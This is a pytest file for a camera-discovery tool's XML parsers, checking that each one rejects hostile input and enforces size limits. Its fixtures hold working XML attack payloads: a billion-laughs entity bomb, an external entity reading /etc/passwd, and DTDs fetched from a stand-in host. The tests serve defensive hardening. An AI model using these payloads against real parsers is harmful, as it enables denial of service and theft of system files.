"""Every XML-reading codec against hostile documents: bombs, DTDs, external entities, oversize,
invalid UTF-8, garbage. Each must return one Observation with a problem and no fields."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from camsweep.models import RAW_LIMIT, ArtefactKind, Observation
from camsweep.protocols import onvif, sadp, upnp, wsd

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    )
    + b"]><ProbeMatch><DeviceSN>&lol9;</DeviceSN></ProbeMatch>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<ProbeMatch><DeviceSN>&xxe;</DeviceSN></ProbeMatch>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.18.0.1/evil.dtd"> %p;]><root/>'
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE ProbeMatch SYSTEM "http://198.18.0.1/x.dtd"><ProbeMatch/>'
INVALID_UTF8 = b'<?xml version="1.0" encoding="utf-8"?><ProbeMatch><DeviceSN>\xff\xfe\xfd</DeviceSN></ProbeMatch>'
GARBAGE = b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(256))
NOT_CLOSED = b"<ProbeMatch><DeviceSN>DS-2CD</DeviceSN>"


def _oversize(limit: int) -> bytes:
    return b"<root>" + b"<a>x</a>" * (limit // 8 + 10) + b"</root>"


PARSERS: list[tuple[str, Callable[..., Observation], ArtefactKind, int]] = [
    ("sadp", sadp.parse_reply, ArtefactKind.SADP_REPLY, 64 * 1024),
    ("wsd", wsd.parse_message, ArtefactKind.ONVIF_SCOPES, 64 * 1024),
    ("onvif-info", onvif.parse_device_information, ArtefactKind.ONVIF_DEVICE_INFO, 256 * 1024),
    ("onvif-net", onvif.parse_network_interfaces, ArtefactKind.ONVIF_DEVICE_INFO, 256 * 1024),
    ("upnp", upnp.parse_description, ArtefactKind.UPNP_DESCRIPTION, 256 * 1024),
]
CASES = [
    ("billion-laughs", BILLION_LAUGHS, "xml-forbidden: DTD not allowed"),
    ("external-entity", EXTERNAL_ENTITY, "xml-forbidden: DTD not allowed"),
    ("parameter-entity", PARAMETER_ENTITY, "xml-forbidden: DTD not allowed"),
    ("external-dtd", EXTERNAL_DTD, "xml-forbidden: DTD not allowed"),
    ("invalid-utf8", INVALID_UTF8, "xml-invalid:"),
    ("garbage", GARBAGE, "xml-invalid:"),
    ("not-closed", NOT_CLOSED, "xml-invalid:"),
    ("empty", b"", "garbage: empty document"),
]


@pytest.mark.parametrize(("name", "parse", "kind", "limit"), PARSERS, ids=[p[0] for p in PARSERS])
@pytest.mark.parametrize(("case", "data", "problem"), CASES, ids=[c[0] for c in CASES])
def test_hostile_xml(
    name: str, parse: Callable[..., Observation], kind: ArtefactKind, limit: int, case: str, data: bytes, problem: str
) -> None:
    obs = parse(data, probe="t", ip="198.18.0.99", mac="02:00:00:00:00:99")
    assert obs.kind is kind
    assert obs.problem is not None and obs.problem.startswith(problem), obs.problem
    assert obs.fields == {}
    assert obs.ip == "198.18.0.99" and obs.mac == "02:00:00:00:00:99"
    assert obs.raw is None or len(obs.raw) <= RAW_LIMIT
    if case != "invalid-utf8":  # decoding with replacement would repair that one
        # The same input as text must behave the same (short-form input arrives as str).
        text_obs = parse(data.decode("utf-8", errors="replace"), probe="t")
        assert text_obs.problem is not None and text_obs.fields == {}


@pytest.mark.parametrize(("name", "parse", "kind", "limit"), PARSERS, ids=[p[0] for p in PARSERS])
def test_oversize_is_refused_before_parsing(name: str, parse: Callable[..., Observation], kind: ArtefactKind, limit: int) -> None:
    data = _oversize(limit)
    obs = parse(data, probe="t")
    assert obs.problem == f"oversize: {len(data)} bytes > {limit}"
    assert obs.fields == {}
    assert obs.truncated is True
    assert obs.raw is not None and len(obs.raw) == RAW_LIMIT


def test_declared_gb2312_is_decoded_not_rejected() -> None:
    # GB2312-declared documents are common on Chinese firmware; expat cannot decode GB2312 itself.
    doc = '<?xml version="1.0" encoding="GB2312"?><ProbeMatch><DeviceDescription>摄像机</DeviceDescription></ProbeMatch>'
    obs = sadp.parse_reply(doc.encode("gb2312"), probe="t")
    assert obs.problem is None
    assert obs.fields["sadp.model"] == "摄像机"
